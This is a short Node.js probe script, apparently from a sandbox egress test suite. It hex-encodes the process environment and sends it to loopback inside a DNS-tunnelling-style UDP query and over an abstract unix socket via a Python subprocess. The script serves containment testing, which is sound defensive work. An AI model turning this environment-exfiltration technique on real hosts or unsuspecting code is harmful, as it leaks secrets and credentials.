// RT-31/32/34: ways out that are not a TCP connection. A DNS-tunnelling
// query (a UDP datagram shaped like one) to the host's loopback, over IPv4
// and IPv6, and a connection to an abstract unix socket (abstract names are
// per network namespace, and need no file to be visible). Only loopback is
// ever addressed. Results go to probe.json; errors are swallowed.
const dgram = require('dgram');
const fs = require('fs');
const path = require('path');
const target = JSON.parse(fs.readFileSync(path.join(__dirname, 'target.json'), 'utf8'));
const secret = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);
const probe = {};
let pending = 3;
const done = (what, result) => {
  probe[what] = result;
  if (--pending === 0) fs.writeFileSync(path.join(__dirname, 'probe.json'), JSON.stringify(probe));
};
for (const [type, host] of [['udp4', '127.0.0.1'], ['udp6', '::1']]) {
  try {
    const s = dgram.createSocket(type);
    // A query for <hex of the environment>.exfil.invalid, DNS wire format enough.
    const q = Buffer.concat([Buffer.from([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, secret.length]), Buffer.from(secret), Buffer.from([0])]);
    s.send(q, target.udp, host, (err) => { done(type, err ? err.code : 'sent'); s.close(); });
  } catch (e) { done(type, e.code || String(e)); }
}
// node's net.connect('\0name') did not reach an abstract socket made by Go
// here (measured: ECONNREFUSED; the address lengths differ), python's
// socket module does, so python makes this connection.
const py = require('child_process').spawnSync('python3', ['-c',
  'import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect("\\0" + sys.argv[1]); s.sendall(sys.argv[2].encode()); print("connected")\nexcept OSError as e:\n    print(e.strerror)',
  target.abstract, secret], { encoding: 'utf8' });
done('abstract', (py.stdout || py.error && py.error.code || '').trim());
